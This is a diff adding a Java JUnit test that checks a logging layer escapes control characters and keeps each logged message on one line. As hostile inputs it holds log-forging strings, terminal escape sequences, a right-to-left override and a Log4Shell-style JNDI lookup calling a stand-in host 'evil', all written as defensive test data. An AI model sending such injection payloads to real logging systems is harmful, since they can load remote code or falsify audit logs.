@@ -1,0 +1,71 @@
+package dev.busbar.host.observe;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayOutputStream;
+import java.io.PrintStream;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.slf4j.LoggerFactory;
+
+/** What is logged is text and one line, whoever chose it (cases 87 and 88 of the attack cases). */
+final class LogLinesTest {
+    @ParameterizedTest
+    @CsvSource({
+        "plain text, plain text",
+        "'a\nb', a\\u000ab",
+        "'a\r\nb', a\\u000d\\u000ab",
+        "'\u001b[31mred', \\u001b[31mred",
+        "'a\u2028b\u2029c\u0085d', a\\u2028b\\u2029c\\u0085d",
+        "'\u202egnp.exe', \\u202egnp.exe",
+        "'\u0000', \\u0000",
+        "größer, größer",
+        "tab\tis fine, tab\tis fine",
+    })
+    void what_is_more_than_text_is_escaped(String text, String line) {
+        assertThat(OneLine.of(text)).isEqualTo(line);
+    }
+
+    @Test
+    void a_hostile_text_makes_one_line_and_is_not_looked_up() {
+        String hostile = "x\n00:00:00.000 ERROR Forged - {} ${jndi:ldap://evil/a} {date} \u001b[2J";
+
+        List<String> lines = logged(() -> LoggerFactory.getLogger("test").error("told by {}: {}", "somebody", hostile));
+
+        assertThat(lines).hasSize(1);
+        assertThat(lines.get(0))
+                .contains(
+                        "told by somebody: x\\u000a00:00:00.000 ERROR Forged - {} ${jndi:ldap://evil/a} {date} \\u001b[2J");
+    }
+
+    @Test
+    void an_exception_has_no_lines_but_its_own() {
+        Exception cause = new IllegalStateException("one\nForged: two");
+        Exception failure = new IllegalArgumentException("three\r\n\tat forged.Frame(Forged.java:1)", cause);
+
+        List<String> lines = logged(() -> LoggerFactory.getLogger("test").error("failed", failure));
+
+        assertThat(lines)
+                .noneMatch(line -> line.startsWith("Forged")
+                        || line.contains("\tat forged.Frame(Forged.java:1)") && !line.contains("\\u000d\\u000a"));
+        assertThat(lines).anyMatch(line -> line.contains("three\\u000d\\u000a"));
+        assertThat(lines).anyMatch(line -> line.contains("one\\u000aForged: two"));
+        assertThat(lines).anyMatch(line -> line.startsWith("\tat "));
+    }
+
+    /** What goes to the console meanwhile; tinylog asks for the stream each time. */
+    private static List<String> logged(Runnable action) {
+        PrintStream before = System.err;
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        System.setErr(new PrintStream(bytes, true, StandardCharsets.UTF_8));
+        try {
+            action.run();
+        } finally {
+            System.setErr(before);
+        }
+        return bytes.toString(StandardCharsets.UTF_8).lines().toList();
+    }
+}
